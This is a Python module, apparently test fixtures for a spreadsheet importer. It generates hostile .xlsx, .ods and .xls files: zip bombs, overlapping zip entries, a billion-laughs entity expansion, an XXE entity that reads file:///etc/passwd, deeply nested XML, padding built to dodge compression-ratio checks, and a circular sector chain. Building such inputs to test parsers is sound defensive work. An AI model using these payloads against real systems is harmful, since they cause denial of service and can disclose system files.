"""Workbooks that are built to hurt whoever opens them: small files that want much time or memory. Made, never kept."""

import io
import struct
import zipfile
from collections.abc import Iterator
from random import Random

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
_ROOT = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_RELATED}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_BOOK = (
    f'<workbook {_MAIN} xmlns:r="{_RELATED}"><sheets><sheet name="Sent" sheetId="1" r:id="r1"/>'
    '<sheet name="Return" sheetId="2" r:id="r1"/></sheets></workbook>'
)
_BOOK_PARTS = {"worksheet": "worksheets/sheet1.xml", "sharedStrings": "sharedStrings.xml", "styles": "styles.xml"}
_GIB = 1024**3
_ODS = "application/vnd.oasis.opendocument.spreadsheet"
_ODS_NAMES = "".join(
    f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
)


def bombs() -> Iterator[tuple[str, str, bytes]]:
    """Each bomb: what it is, the name of its file, and its bytes."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield "a sparse sheet: one cell in the last corner", "return.xlsx", _book(_sheet(far))
    yield "a sheet that says it is full", "return.xlsx", _book(_sheet(far, '<dimension ref="A1:XFD1048576"/>'))
    shared = f"<sst {_MAIN}>{''.join(f'<si><t>{n * n:x}</t></si>' for n in range(600_000))}</sst>"
    yield "600,000 shared strings", "return.xlsx", _book(_sheet(""), {"xl/sharedStrings.xml": shared})
    long = f"<sst {_MAIN}><si><t>{_noise(30_000_000)}</t></si></sst>"
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 5_001))
    yield "one string of 30 MB in 5,000 cells", "return.xlsx", _book(_sheet(cells), {"xl/sharedStrings.xml": long})
    yield "packed beyond measure", "return.xlsx", _book(_sheet(" " * 50_000_000))
    yield "1 GB of zeros in a picture", "return.xlsx", _with_zeros()
    yield "40 parts that share one gigabyte", "return.xlsx", _overlapping()
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    laughter = f'<!DOCTYPE a [<!ENTITY a0 "ha">{laughs}]>'
    yield "a billion laughs", "return.xlsx", _book(laughter + _sheet("&a9;"))
    outside = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
    yield "an entity that is another file", "return.xlsx", _book(outside + _sheet("&b;"))
    yield "100,000 layers of XML", "return.xlsx", _book(_sheet("<a>" * 100_000 + "</a>" * 100_000))
    yield "an attribute of 40 MB", "return.xlsx", _book(_sheet(f'<row a="{_noise(40_000_000)}"/>'))
    yield (
        "100,000 attributes",
        "return.xlsx",
        _book(_sheet("<row " + "".join(f'a{n}="" ' for n in range(100_000)) + "/>")),
    )
    style = "".join(
        f'<xf numFmtId="9" fontId="{n * n % 65_521}"><alignment wrapText="1"/></xf>' for n in range(400_000)
    )
    styles = f"<styleSheet {_MAIN}><cellXfs>{style}</cellXfs></styleSheet>"
    yield "400,000 styles", "return.xlsx", _book(_sheet(""), {"xl/styles.xml": styles})
    merged = "".join(f'<mergeCell ref="A{n}:Z{n}"/>' for n in range(1, 300_001))
    yield "300,000 merged ranges", "return.xlsx", _book(_sheet("", after=f"<mergeCells>{merged}</mergeCells>"))
    rules = "".join(
        f'<conditionalFormatting sqref="A{n}:XFD{n}"><cfRule type="expression" priority="{n}"><formula>A{n}=1</formula>'
        "</cfRule></conditionalFormatting>"
        for n in range(1, 200_001)
    )
    yield "200,000 conditional formats", "return.xlsx", _book(_sheet("", after=rules))
    checks = "".join(
        f'<dataValidation type="list" sqref="A{n}"><formula1>$A$1:$XFD$1048576</formula1></dataValidation>'
        for n in range(1, 200_001)
    )
    yield "200,000 validations", "return.xlsx", _book(_sheet("", after=f"<dataValidations>{checks}</dataValidations>"))
    links = {f"xl/externalLinks/externalLink{n}.xml": f"<externalLink {_MAIN}/>" for n in range(1, 600)}
    yield "600 links to other workbooks", "return.xlsx", _book(_sheet(""), links)
    formulas = "".join(f'<row r="{n}"><c r="A{n}"><f>A{n + 1}+1</f></c></row>' for n in range(1, 20_001))
    yield "20,000 formulas without results", "return.xlsx", _book(_sheet(formulas))
    numbers = "".join(f'<row r="{n}"><c r="A{n}"><v>{"9" * 100}</v></c></row>' for n in range(1, 20_001))
    yield "20,000 numbers of a hundred digits", "return.xlsx", _book(_sheet(numbers))
    repeated = 'table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1048576"><table:table-cell {repeated}</table:table-row>'
    yield "an .ods whose one row is repeated a million times", "return.ods", _opendocument(row)
    yield "an .ods with 100,000 layers", "return.ods", _opendocument("<a>" * 100_000 + "</a>" * 100_000)
    yield "an .xls whose chain of sectors goes round", "return.xls", _circular()


def _noise(length: int) -> str:
    """Text that packs to about a fifth, so that no ratio gives it away."""
    random = Random(length)
    return "".join(f"{random.getrandbits(32):08x}" * 8 for _ in range(length // 64))


def _sheet(rows: str, before: str = "", after: str = "") -> str:
    return f"<worksheet {_MAIN}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"


def _parts(sheet: str, more: dict[str, str] | None = None) -> dict[str, str]:
    related = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATED}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(_BOOK_PARTS.items(), start=1)
    )
    return {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _ROOT,
        "xl/workbook.xml": _BOOK,
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{related}</Relationships>'
        ),
        "xl/styles.xml": f"<styleSheet {_MAIN}/>",
        "xl/sharedStrings.xml": f"<sst {_MAIN}/>",
        "xl/worksheets/sheet1.xml": sheet,
        **(more or {}),
    }


def _book(sheet: str, more: dict[str, str] | None = None) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in _parts(sheet, more).items():
            archive.writestr(name, part)
    return packed.getvalue()


def _with_zeros() -> bytes:
    packed = io.BytesIO(_book(_sheet("")))
    with (
        zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/image1.png", "w") as part,
    ):
        for _ in range(_GIB // (16 * 1024**2)):
            part.write(bytes(16 * 1024**2))
    return packed.getvalue()


def _overlapping() -> bytes:
    """The directory names one packed part forty times, each under a size that is allowed."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("xl/a.xml", f"<a>{_noise(1_400_000)}</a>")
        kernel = archive.infolist()[-1]
        for number in range(40):
            copy = zipfile.ZipInfo(f"xl/b{number:02d}.xml")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(copy, field, getattr(kernel, field))
            archive.filelist.append(copy)
    return packed.getvalue()


def _opendocument(rows: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", _ODS, zipfile.ZIP_STORED)
        table = f'<table:table table:name="Return">{rows}</table:table>'
        archive.writestr("content.xml", f"<office:body{_ODS_NAMES}>{table}</office:body>")
    return packed.getvalue()


def _circular() -> bytes:
    """A compound file whose table of sectors leads from each sector back to itself."""
    header = bytearray(512)
    header[:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHH", header, 26, 3, 0xFFFE, 9)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    table = struct.pack("<128I", *range(128))
    entry = "Workbook".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 18) + bytes(50)
    return bytes(header) + table + (entry + struct.pack("<III", 1, 0x7FFFFFFF, 0)) * 4
